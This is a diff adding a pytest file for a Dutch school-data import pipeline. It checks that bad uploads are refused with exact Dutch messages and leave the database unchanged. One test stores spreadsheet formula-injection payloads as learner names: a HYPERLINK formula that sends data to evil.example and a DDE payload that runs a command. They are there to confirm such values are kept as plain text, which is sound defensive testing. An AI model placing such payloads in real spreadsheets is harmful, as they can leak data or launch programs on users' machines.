@@ -1,0 +1,447 @@
+"""Bad files, as schools really upload them: for each one, the exact Dutch message a person sees,
+and a database with exactly the rows it had before (only the audit log may grow).
+
+The files are in tests/data/bad/ (written by make_corpus.py there). Results and needs files name
+learners by placeholder ({L1}, {L2}, {L3}); the demo school's stamboeknummers go in their place.
+"""
+
+from __future__ import annotations
+
+import gc
+import io
+import re
+import weakref
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from app import stats
+from app.audit import Audit
+from app.db import Database
+from app.errors import UserError
+from app.i18n import Translator
+from app.importing import pipeline
+from app.importing.journal import Counts
+from app.importing.reading import ReadError
+from app.scope import EVERYTHING
+
+CORPUS = Path(__file__).parent / "data" / "bad"
+SCHOOL_YEAR = "2026-2027"
+T = Translator("nl")
+
+REFUSED = ("Het bestand is geweigerd: {problems} probleem/problemen op {rows} rij(en). "
+           "Er is niets gewijzigd. Verbeter het bestand, of kies ervoor alleen de juiste rijen "
+           "te importeren.")
+NOT_READY = "De import is nog niet klaar: koppel eerst alle verplichte kolommen."
+NOT_A_TABLE = "Laad een CSV- of Excel-bestand op."
+SAVE_AS_UTF8 = "Bewaar het bestand opnieuw als 'CSV UTF-8'."
+DAMAGED = "Het Excel-bestand is beschadigd of beveiligd met een wachtwoord."
+ARCHIVE = ("Dit is een archief (zip), geen Excel-bestand. Pak het uit en laad het bestand zelf "
+           "op.")
+DOCUMENT = f"Dit is een document, geen tabel. {NOT_A_TABLE}"
+PROGRAM = "Dit is een programma, geen tabel. Het is geweigerd."
+SEPARATOR_HINT = "Staat er een scheidingsteken in een waarde zonder aanhalingstekens?"
+PERIODS = "(Trimester 1, Trimester 2, Trimester 3)"
+UNKNOWN_LEARNER = "is geen gekende leerling (stamboeknummer niet gevonden)"
+SUBJECT_NEEDED = "een vak is nodig voor remediëring en verdieping"
+
+
+@dataclass(frozen=True)
+class Case:
+    file: str
+    kind: str
+    message: str = ""                    # the reason an unreadable file is refused, or the
+                                         # mapping step's warning
+    missing: tuple[str, ...] = ()        # required fields that found no column
+    lines: tuple[str, ...] = ()          # every row problem, as shown, in order
+    sheet: str | None = None
+
+
+def case(*args, marks=(), **kwargs):
+    made = Case(*args, **kwargs)
+    return pytest.param(made, id=made.file, marks=marks)
+
+
+# -- the corpus, with what a person is told ------------------------------------------------------
+
+UNREADABLE = [
+    case("leeg.csv", "learners", "Het bestand is leeg."),
+    case("alleen-bom.csv", "learners", "Het bestand is leeg."),
+    case("afbeelding-png.csv", "learners", f"Dit is een afbeelding, geen tabel. {NOT_A_TABLE}"),
+    case("pdf.csv", "learners",
+         "Dit is een PDF, geen tabel. Exporteer de gegevens als CSV of Excel en laad dat op."),
+    case("programma-linux-elf.csv", "learners", PROGRAM),
+    case("programma-windows-exe.csv", "learners", PROGRAM),
+    case("rtf-document.csv", "learners", DOCUMENT),
+    case("word-document.xls", "learners", DOCUMENT),
+    case("zip-geen-xlsx.xlsx", "learners", ARCHIVE),
+    case("gzip.csv", "learners", ARCHIVE),
+    case("nul-bytes-na-crash.csv", "learners",
+         f"Dit is geen tekstbestand of rekenblad. {NOT_A_TABLE}"),
+    case("xlsx-afgebroken.xlsx", "learners", DAMAGED),
+    case("xlsx-met-wachtwoord.xlsx", "learners", DAMAGED),
+    case("leerlingen-tabblad.xlsx", "learners",
+         "Er is geen tabblad 'Bestaat niet'. Tabbladen in dit bestand: Leerlingen, Klassen.",
+         sheet="Bestaat niet"),
+    case("leerlingen-titelrij.xlsx", "learners",
+         "Rij 3 heeft ingevulde cellen voorbij de 1 kolommen van de kopregel (rij 1). Staat er "
+         "een titel of een opmerking boven de kopregel? Haal die weg."),
+    case("aanhalingsteken-slikt-rijen.csv", "learners",
+         "Vanaf rij 3 staat een aanhalingsteken open dat pas rijen later sluit: die rijen "
+         "zouden in één cel verdwijnen. Kijk die rij na in het bestand."),
+    case("aanhalingsteken-open.csv", "learners",
+         "Vanaf rij 3 wordt een aanhalingsteken niet afgesloten. Kijk die rij na in het bestand."),
+    case("sep-regel-aanhalingsteken.csv", "learners",
+         "Vanaf rij 4 wordt een aanhalingsteken niet afgesloten. Kijk die rij na in het bestand."),
+    case("te-veel-velden.csv", "learners",
+         f"Rij 3 heeft 5 velden, terwijl de kopregel 4 kolommen heeft. {SEPARATOR_HINT}"),
+    case("reuzeveld.csv", "learners",
+         "Rij 3 bevat een veld van meer dan 100.000 tekens. Dat is geen schoolgegeven: kijk het "
+         "bestand na."),
+    case("gemengde-codering.csv", "learners",
+         "Het bestand mengt twee tekencoderingen (rij 2 is UTF-8, rij 3 niet): waarschijnlijk "
+         "zijn twee exports samengevoegd. Bewaar het opnieuw als 'CSV UTF-8'."),
+    case("bom-maar-windows1252.csv", "learners",
+         f"Rij 3 bevat tekens die niet in utf-8 geschreven zijn. {SAVE_AS_UTF8}"),
+    case("dos-cp850.csv", "learners",
+         f"Rij 2 bevat tekens die niet in cp1252 geschreven zijn. {SAVE_AS_UTF8}"),
+    case("utf16-afgebroken.csv", "learners",
+         f"Rij 2 bevat tekens die niet in utf-16 geschreven zijn. {SAVE_AS_UTF8}"),
+]
+
+UNMAPPED = [
+    case("spaties-als-scheidingsteken.csv", "learners",
+         "Deze verplichte velden vinden geen kolom: Naam, Voornaam, Klas. Kies de juiste kolom "
+         "hieronder.", missing=("last_name", "first_name", "class_code")),
+    case("sep-komma-maar-puntkomma.csv", "learners",
+         "Deze verplichte velden vinden geen kolom: Naam, Voornaam, Klas. Kies de juiste kolom "
+         "hieronder.", missing=("last_name", "first_name", "class_code")),
+    case("leerlingen-zonder-klas.csv", "learners",
+         "Deze verplichte velden vinden geen kolom: Klas. Kies de juiste kolom hieronder.",
+         missing=("class_code",)),
+]
+
+REFUSED_ROWS = [
+    # learners
+    case("leerlingen-dubbel-stamboeknummer.csv", "learners", lines=(
+        "rij 4, kolom Stamboeknummer: '9990201' komt ook voor op rij 2, met andere gegevens",)),
+    case("leerlingen-onmogelijke-datum.csv", "learners", lines=(
+        "rij 2, kolom Geboortedatum: '31/02/2013' is geen bestaande datum",)),
+    case("leerlingen-geen-datum.csv", "learners", lines=(
+        "rij 3, kolom Geboortedatum: 'gisteren' is geen datum (verwacht dd/mm/jjjj of "
+        "jjjj-mm-dd)",)),
+    case("leerlingen-ongeldig-emailadres.csv", "learners", lines=(
+        "rij 3, kolom E-mail: 'an maes@school.example' is geen e-mailadres",
+        "rij 4, kolom E-mail: 'tom.claes.school.example' is geen e-mailadres")),
+    case("leerlingen-foute-klascode.csv", "learners", lines=(
+        "rij 2, kolom Klas: 'A1' begint niet met een leerjaar (1 tot 7)",
+        "rij 4, kolom Klas: '8B' begint niet met een leerjaar (1 tot 7)")),
+    case("leerlingen-lege-verplichte-velden.csv", "learners", lines=(
+        "rij 3, kolom Voornaam: verplicht, maar leeg",
+        "rij 4, kolom Naam: verplicht, maar leeg")),
+    case("leerlingen-lege-regel.csv", "learners", lines=(  # the empty line is Excel's row 3
+        "rij 4, kolom Klas: 'A1' begint niet met een leerjaar (1 tot 7)",)),
+    case("leerlingen-meerregelige-opmerking.csv", "learners", lines=(
+        "rij 3, kolom Klas: 'A1' begint niet met een leerjaar (1 tot 7)",)),
+    case("leerlingen-mac-cr-regeleinden.csv", "learners", lines=(
+        "rij 3, kolom Klas: 'A1' begint niet met een leerjaar (1 tot 7)",)),
+    # results
+    case("resultaten-onbekende-leerling.csv", "results", lines=(
+        f"rij 3, kolom Stamboeknummer: '9999999' {UNKNOWN_LEARNER}",)),
+    case("resultaten-boven-maximum.csv", "results", lines=(
+        "rij 2, kolom Punt: '25' is hoger dan het maximum 20",
+        "rij 3, kolom Punt: '25/20' is hoger dan het maximum 20")),
+    case("resultaten-negatief.csv", "results", lines=(
+        "rij 2, kolom Punt: '-3' is negatief",)),
+    case("resultaten-zonder-maximum.csv", "results", lines=(
+        "rij 2, kolom Punt: '14' heeft geen maximum: schrijf 12/20, of voeg een kolom met het "
+        "maximum toe",)),
+    case("resultaten-onbekende-periode.csv", "results", lines=(
+        f"rij 2, kolom Periode: 'Trimester 4' is geen gekende periode {PERIODS}",
+        f"rij 3, kolom Periode: 'Semester 1' is geen gekende periode {PERIODS}")),
+    case("resultaten-geen-getal.csv", "results", lines=(
+        "rij 2, kolom Punt: 'veertien' is geen getal",)),
+    case("resultaten-dubbel.csv", "results", lines=(
+        "rij 3, kolom Stamboeknummer: '{L1}' komt ook voor op rij 2, met andere gegevens",)),
+    case("resultaten-punt-werd-datum.xlsx", "results", lines=(
+        "rij 2, kolom Punt: '2026-12-20 00:00:00' is geen getal",)),
+    case("resultaten-maximum-nul.csv", "results", lines=(
+        "rij 2, kolom Max: '0' is geen geldig maximum (groter dan 0)",)),
+    # needs
+    case("noden-onbekende-soort.csv", "needs", lines=(
+        "rij 2, kolom Soort: 'bijles' is geen soort flexuur (remediëring, verdieping, "
+        "verbreding)",)),
+    case("noden-remediering-zonder-vak.csv", "needs", lines=(
+        f"rij 2, kolom Vak: {SUBJECT_NEEDED}",)),
+    case("noden-einde-voor-begin.csv", "needs", lines=(
+        "rij 2, kolom Tot: '30/11/2026' ligt vóór de begindatum",)),
+    case("noden-verplicht-misschien.csv", "needs", lines=(
+        "rij 2, kolom Verplicht: 'misschien' is geen ja of nee",)),
+    case("noden-prioriteit-woord.csv", "needs", lines=(
+        "rij 2, kolom Prioriteit: 'dringend' is geen prioriteit (1, 2 of 3; hoog, normaal of "
+        "laag)",)),
+    case("noden-zonder-vakkolom.csv", "needs", lines=(
+        f"rij 2, kolom Vak: {SUBJECT_NEEDED}",)),
+    # the flex offer
+    case("flex-capaciteit-nul.csv", "flex-sessions", lines=(
+        "rij 2, kolom Capaciteit: '0' is geen geldige capaciteit (1 tot 200)",)),
+    case("flex-zondag.csv", "flex-sessions", lines=(
+        "rij 2, kolom Dag: 'zondag' is geen lesdag (maandag tot vrijdag)",)),
+    case("flex-onbekende-begeleider.csv", "flex-sessions", lines=(
+        "rij 2, kolom Begeleider: 'Mevr. Onbekend' is geen gekend personeelslid "
+        "(personeelsnummer, e-mail of naam)",)),
+    case("flex-leerjaren-en-cyclus.csv", "flex-sessions", lines=(
+        "rij 2, kolom Leerjaren: '8' zijn geen leerjaren (bijvoorbeeld 1,2 of 1-2 of 1e graad)",
+        "rij 3, kolom Cyclus: '13' is geen cyclus van dit schooljaar (1 tot 12, of een datum of "
+        "week erin)")),
+    # staff
+    case("personeel-opdracht-30-22.csv", "staff", lines=(
+        "rij 2, kolom Lesopdracht: '30/22' is geen geldige lesopdracht",
+        "rij 3, kolom Lesopdracht: '45' is geen geldige lesopdracht")),
+    case("personeel-onbekende-functie.csv", "staff", lines=(
+        "rij 2, kolom Functie: 'leerkracht, conciërge' bevat een onbekende functie: "
+        "conciërge",)),
+    # surveys
+    case("enquete-alleen-metadata.csv", "survey", lines=(
+        "rij 1, kolom Tijdstempel: geen enkele kolom is een vraag",)),
+    case("enquete-alleen-metadata-drie-rijen.csv", "survey", lines=(
+        "rij 1, kolom Tijdstempel: geen enkele kolom is een vraag",)),
+]
+
+ALL_CASES = [p.values[0] for p in UNREADABLE + UNMAPPED + REFUSED_ROWS]
+OTHER_FILES = {
+    "leerlingen-alleen-kopregel.csv", "leerlingen-identieke-dubbele-rij.csv",
+    "leerlingen-formules-in-naam.csv", "leerlingen-dubbele-kolomnaam.csv",
+    "enquete-ms-forms-dubbelzinnige-datums.csv",
+}
+
+
+# -- helpers -----------------------------------------------------------------------------------
+
+def placeholders(db: Database) -> dict[str, str]:
+    keys = sorted(db.read("import/learner_keys")["external_id"])
+    return {"{L1}": keys[0], "{L2}": keys[1], "{L3}": keys[2]}
+
+
+def fill(text: str, ids: dict[str, str]) -> str:
+    for placeholder, external_id in ids.items():
+        text = text.replace(placeholder, external_id)
+    return text
+
+
+def corpus_file(name: str, db: Database) -> bytes:
+    """The file's bytes, with the demo school's stamboeknummers for the placeholders."""
+    data = (CORPUS / name).read_bytes()
+    ids = placeholders(db)
+    if name.endswith(".xlsx") and name.startswith(("resultaten", "noden")):
+        book = openpyxl.load_workbook(io.BytesIO(data))
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                for cell in row:
+                    if isinstance(cell.value, str):
+                        cell.value = fill(cell.value, ids)
+        out = io.BytesIO()
+        book.save(out)
+        return out.getvalue()
+    return fill(data.decode("latin-1"), ids).encode("latin-1")  # bytes kept as they are
+
+
+def data_counts(db: Database) -> dict[str, int]:
+    """Rows per entity, without the audit log (a refusal is logged on purpose)."""
+    counts = stats.counts(db)
+    counts.pop("audit_entries")
+    return counts
+
+
+def prepare(db: Database, item: Case) -> pipeline.Prepared:
+    return pipeline.prepare(db, item.kind, item.file, corpus_file(item.file, db),
+                            sheet=item.sheet)
+
+
+def commit(db: Database, prepared: pipeline.Prepared) -> pipeline.ImportResult:
+    return pipeline.commit(db, prepared, Audit("import", scope="cli"))
+
+
+@dataclass
+class Outcome:
+    """What a person is told about one upload, and what trying to import it did."""
+
+    ids: dict[str, str]                          # the placeholders' stamboeknummers
+    unreadable: str | None = None                # the file refused as a whole
+    missing: tuple[str, ...] = ()                # the mapping step is shown
+    asks_date_order: bool = False                # the date-order question is shown
+    lines: list[str] = field(default_factory=list)       # every row problem, rendered
+    refusal: str | None = None                   # what committing anyway said
+    changed: dict[str, tuple[int, int]] = field(default_factory=dict)   # before, after
+
+
+def attempt(path: Path, item: Case) -> Outcome:
+    """Upload a corpus file into the demo school and then try to import it, as the page and the
+    command line do. Only plain values come back: a failing (or expected-to-fail) test must not
+    hold the database in its traceback, or DuckDB's bindings report it leaked at exit."""
+    with Database(path) as db:
+        outcome = Outcome(ids=placeholders(db))
+        before = data_counts(db)
+        try:
+            prepared = prepare(db, item)
+        except ReadError as error:
+            outcome.unreadable = error.render(T)
+        else:
+            outcome.missing = tuple(prepared.missing)
+            outcome.asks_date_order = prepared.needs_date_order
+            outcome.lines = [pipeline.render_problem(p, T) for p in prepared.problems]
+            try:
+                commit(db, prepared)
+            except UserError as error:
+                outcome.refusal = error.render(T)
+        after = data_counts(db)
+    outcome.changed = {k: (before[k], after[k]) for k in before if after[k] != before[k]}
+    return outcome
+
+
+def done(result: pipeline.ImportResult) -> str:
+    """What the page says after importing."""
+    return T("import.ui.done", new=T.count(result.counts.new),
+             updated=T.count(result.counts.updated),
+             unchanged=T.count(result.counts.unchanged), refused=T.count(result.refused))
+
+
+def stored_learners(db: Database, prefix: str) -> list[tuple[str, str, str, str]]:
+    frame = db.read("export/learners", scope=EVERYTHING, school_year=SCHOOL_YEAR)
+    frame = frame[frame["external_id"].str.startswith(prefix)].sort_values("external_id")
+    return list(frame[["external_id", "last_name", "first_name", "class_code"]]
+                .itertuples(index=False, name=None))
+
+
+# -- files that cannot be read at all ------------------------------------------------------------
+
+@pytest.mark.parametrize("item", UNREADABLE)
+def test_unreadable_file_is_refused_with_a_message_and_writes_nothing(demo_path, item):
+    outcome = attempt(demo_path, item)
+    assert outcome.unreadable == item.message
+    assert T("import.ui.unreadable", file=item.file, reason=outcome.unreadable) == \
+        f"{item.file} kon niet gelezen worden: {item.message}"
+    assert outcome.changed == {}
+
+
+# -- files whose columns cannot be found ---------------------------------------------------------
+
+@pytest.mark.parametrize("item", UNMAPPED)
+def test_file_without_required_columns_asks_for_the_mapping_and_writes_nothing(demo_path,
+                                                                                 item):
+    outcome = attempt(demo_path, item)
+    assert outcome.unreadable is None
+    assert outcome.missing == item.missing
+    assert T("import.ui.missing", fields=", ".join(T(f"field.{name}")
+                                                   for name in outcome.missing)) == item.message
+    assert outcome.refusal == NOT_READY
+    assert outcome.changed == {}
+
+
+def test_ambiguous_forms_dates_ask_for_the_date_order_and_write_nothing(demo_path):
+    outcome = attempt(demo_path, Case("enquete-ms-forms-dubbelzinnige-datums.csv", "survey"))
+    assert (outcome.unreadable, outcome.missing) == (None, ())
+    assert outcome.asks_date_order
+    assert T("import.ui.date_order") == "Hoe staan de datums in dit bestand?"
+    assert outcome.refusal == NOT_READY
+    assert outcome.changed == {}
+
+
+# -- files with wrong rows -----------------------------------------------------------------------
+
+@pytest.mark.parametrize("item", REFUSED_ROWS)
+def test_rows_with_problems_are_named_and_nothing_is_written(demo_path, item):
+    outcome = attempt(demo_path, item)
+    assert (outcome.unreadable, outcome.missing, outcome.asks_date_order) == (None, (), False)
+    expected = [fill(line, outcome.ids) for line in item.lines]
+    assert outcome.lines == expected
+    rows = {re.match(r"rij (\d+),", line).group(1) for line in expected}
+    assert outcome.refusal == REFUSED.format(problems=len(expected), rows=len(rows))
+    assert outcome.changed == {}
+
+
+# -- files that are odd but fine -------------------------------------------------------------------
+
+def test_header_only_file_has_nothing_new_to_import(demo_db):
+    before = data_counts(demo_db)
+    prepared = prepare(demo_db, Case("leerlingen-alleen-kopregel.csv", "learners"))
+    assert prepared.table.rows == [] and prepared.problems == []
+    assert prepared.counts == Counts(new=0, updated=0, unchanged=0)
+    assert data_counts(demo_db) == before
+    # The page says so, and disables its Importeren button (new + updated == 0).
+    assert T("import.ui.read", rows=T.count(len(prepared.table.rows)),
+             columns=len(prepared.table.header), format="CSV") == \
+        "0 rijen en 5 kolommen gelezen (CSV)."
+    assert T("import.ui.nothing_new") == \
+        "Alles staat er al precies zo in: importeren verandert niets."
+    # The command line commits anyway: no data row changes, only the import log grows.
+    result = commit(demo_db, prepared)
+    assert (result.counts, result.refused) == (Counts(0, 0, 0), 0)
+    assert T("cli.import.done", kind="learners", new=0, updated=0, unchanged=0, refused=0,
+             import_id=result.import_id) == \
+        f"Import {result.import_id} (learners): 0 nieuw, 0 gewijzigd, 0 ongewijzigd, " \
+        "0 geweigerd."
+    assert data_counts(demo_db) == {**before, "imports": before["imports"] + 1}
+
+
+def test_identical_duplicate_rows_import_once(demo_db):
+    before = data_counts(demo_db)
+    prepared = prepare(demo_db, Case("leerlingen-identieke-dubbele-rij.csv", "learners"))
+    assert (prepared.problems, prepared.built.notes) == ([], [])
+    assert prepared.counts == Counts(new=2, updated=0, unchanged=0)
+    assert done(commit(demo_db, prepared)) == \
+        "Geïmporteerd: 2 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 geweigerd."
+    assert stored_learners(demo_db, "99901") == [
+        ("9990101", "Peeters", "Jan", "1A"), ("9990102", "Maes", "An", "1B")]
+    after = data_counts(demo_db)
+    assert after == {**before, "learners": before["learners"] + 2,
+                     "learners_current": before["learners_current"] + 2,
+                     "imports": before["imports"] + 1}
+
+
+def test_formula_like_names_are_stored_exactly_as_text(demo_db):
+    prepared = prepare(demo_db, Case("leerlingen-formules-in-naam.csv", "learners"))
+    assert (prepared.problems, prepared.built.notes) == ([], [])
+    assert done(commit(demo_db, prepared)) == \
+        "Geïmporteerd: 5 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 geweigerd."
+    assert stored_learners(demo_db, "99903") == [
+        ("9990301", '=HYPERLINK("http://evil.example/?x="&A1;"klik")', "Jan", "1A"),
+        ("9990302", "+1", "An", "1A"),
+        ("9990303", "-2", "Tom", "1B"),
+        ("9990304", "@SUM(A1:A2)", "Lies", "1B"),
+        ("9990305", "Peeters", "=cmd|' /C calc'!A0", "1C"),
+    ]
+
+
+def test_duplicate_column_name_stores_the_first_column(demo_db):
+    """Two columns named Naam (the learner's, then a relation's): the first is the learner's,
+    as the mapping step shows; the relation's name must not end up in the learner's record."""
+    prepared = prepare(demo_db, Case("leerlingen-dubbele-kolomnaam.csv", "learners"))
+    assert prepared.mapping["last_name"] == "Naam"
+    assert (prepared.problems, prepared.built.notes) == ([], [])
+    assert done(commit(demo_db, prepared)) == \
+        "Geïmporteerd: 1 nieuw, 0 gewijzigd, 0 ongewijzigd, 0 geweigerd."
+    assert stored_learners(demo_db, "99904") == [("9990401", "Peeters", "Jan", "1A")]
+
+
+def test_an_upload_with_a_wrong_value_leaves_nothing_behind_in_memory(demo_path):
+    db = Database(demo_path)
+    database = weakref.ref(db)
+    prepared = prepare(db, Case("resultaten-geen-getal.csv", "results"))
+    assert [p.key for p in prepared.problems] == ["value.not_a_number"]
+    db.close()
+    del db, prepared
+    gc.collect()
+    assert database() is None
+
+
+# -- the corpus itself -----------------------------------------------------------------------------
+
+def test_every_file_in_the_corpus_has_a_case():
+    on_disk = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".py"}
+    named = [c.file for c in ALL_CASES] + sorted(OTHER_FILES)
+    assert len(named) == len(set(named)), "a file has two cases"
+    assert on_disk == set(named)
+    assert len(on_disk) >= 32
